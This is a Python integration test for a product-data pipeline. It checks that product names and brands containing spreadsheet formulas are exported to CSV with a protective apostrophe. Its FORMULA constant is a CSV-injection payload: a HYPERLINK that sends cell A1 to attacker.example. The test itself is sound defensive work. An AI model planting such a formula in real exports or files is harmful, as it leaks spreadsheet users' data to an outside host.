"""Crawled text that a spreadsheet would run as a formula leaves Sluice as text, in both CSVs.

A product whose name and brand are formulas goes the way a crawled one does (an envelope on
Kafka, the normalizer into PostgreSQL); the API's CSV export and the daily export then carry
those cells with the apostrophe that makes a spreadsheet show them instead of running them.
"""

from __future__ import annotations

import csv
import gzip
import io
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from processors.app import build
from sluice.export import export_day
from sluice.kafka.admin import admin_client, ensure_topics
from sluice.kafka.topics import TopicSpec
from sluice.storage.postgres import connect
from tests.support.processing import product, publish
from tests.support.served_api import api_key, get

pytestmark = [pytest.mark.kafka, pytest.mark.postgres]

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for a discount")'
BRAND = "@SUM(1+1)"


@pytest.fixture(scope="module")
def stored(stack, settings, migrated) -> Iterator[str]:
    """The source of one product named as a formula, stored by the real normalizer."""
    source = f"formula-{uuid.uuid4().hex[:8]}.localhost"
    topic = f"test.formulas.{uuid.uuid4().hex[:8]}"
    admin = admin_client(settings.kafka)
    ensure_topics(admin, [TopicSpec(topic, partitions=1)])
    try:
        publish(
            settings,
            topic,
            [product(source, "SKU-1", "4.20", 0, source, name=FORMULA, brand=BRAND)],
        )
        stats = build(settings, "normalizer", topics=[topic], consumer_group_id=topic).run(
            until_idle=2, timeout=120
        )
        assert stats.written == 1, stats
        yield source
    finally:
        admin.delete_topics([topic])
        with connect(settings.postgres_writer_url, autocommit=True) as conn:
            conn.execute(
                "DELETE FROM product_prices WHERE product_id IN "
                "(SELECT id FROM products WHERE source = %s)",
                (source,),
            )
            conn.execute("DELETE FROM products WHERE source = %s", (source,))


def test_the_api_export_shows_a_formula_as_text(platform, settings, stored):
    # The export as a user downloads it: over HTTP from the served API.
    with api_key(settings) as key:
        answer = get(settings, key, "/api/v1/products/export.csv", source=stored)
    [row] = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"))))
    assert (row["name"], row["brand"]) == ("'" + FORMULA, "'" + BRAND)


def test_the_daily_export_shows_a_formula_as_text(settings, stored, tmp_path):
    with connect(settings.postgres_reader_url) as conn:
        files = export_day(conn, datetime.now(UTC).date(), tmp_path, tables=["products"])
    with gzip.open(files[0].path, "rt", newline="") as text:
        [row] = [r for r in csv.DictReader(text) if r["source"] == stored]
    assert (row["name"], row["brand"]) == ("'" + FORMULA, "'" + BRAND)
